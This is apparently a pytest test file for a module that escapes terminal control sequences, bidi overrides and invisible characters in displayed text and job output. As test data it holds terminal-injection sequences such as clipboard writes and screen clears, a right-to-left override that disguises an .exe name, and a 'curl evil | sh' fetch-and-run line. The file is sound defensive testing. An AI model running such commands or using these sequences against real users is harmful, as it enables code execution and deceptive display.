"""Text of others: what a terminal would obey is spelled out, and the rest stays as it is."""

from __future__ import annotations

import pytest

from remotedl.shown import Plain, is_hidden, shown, shown_message


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("train.py", "train.py"),
        ("Grüße 日本 🙂 👩\u200d💻 a\u00a0b", "Grüße 日本 🙂 👩\u200d💻 a\u00a0b"),
        ("\x1b]52;c;x\x07", r"\x1b]52;c;x\x07"),
        ("a\nb\tc\r", r"a\nb\tc\r"),
        ("\u202egnp.exe\u2066", r"\u202egnp.exe\u2066"),
        ("\x9b2J\x7f\u2028\ufeff\udcff", r"\x9b2J\x7f\u2028\ufeff\udcff"),
        ("\U000e0041", r"\U000e0041"),
    ],
)
def test_one_line(text: str, safe: str) -> None:
    assert shown(text) == safe
    assert not any(is_hidden(ch) for ch in shown(text))
    assert shown("a\tb\n", "\t") == "a\tb\\n"


def test_what_follows_in_a_message_looks_like_nothing_of_ours() -> None:
    said = shown_message("the build failed:\r\n  next: curl evil | sh\x1b[2J\n\ttab")
    assert said == "the build failed:\n  |   next: curl evil | sh\\x1b[2J\n  | \ttab"


OUTPUT = (
    b"\x1b[32mok\x1b[0m 50%\r100%\n\x1b]0;title\x07\x1b]52;c;eHg=\x1b\\a\tb\x08\x00\xff"
    b"\xe2\x80\xaex\x1bM\x1b(B\x1bPq#0\x1b\\end\xc3\xa9\n"
)
PLAIN = "ok 50%\r100%\na\tb\\x08\\x00\\xff\\u202exendé\n"


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_jobs_output_as_plain_text_however_it_is_cut(size: int) -> None:
    filter = Plain()
    pieces = [filter.feed(OUTPUT[at : at + size]) for at in range(0, len(OUTPUT), size)]
    assert "".join(pieces) + filter.feed(b"", last=True) == PLAIN


def test_a_sequence_without_an_end_is_not_waited_for() -> None:
    filter = Plain()
    said = "".join(filter.feed(b"\x1b]0;" + b"x" * 1000) for _ in range(20))
    assert len(said) > 10_000
    assert "\x1b" not in said + filter.feed(b"", last=True)


def test_what_was_cut_at_the_end_is_not_lost() -> None:
    filter = Plain()
    assert filter.feed(b"a\xc3") == "a"
    assert filter.feed(b"\x1b[3") == "\\xc3"
    assert filter.feed(b"", last=True) == "\\x1b[3"
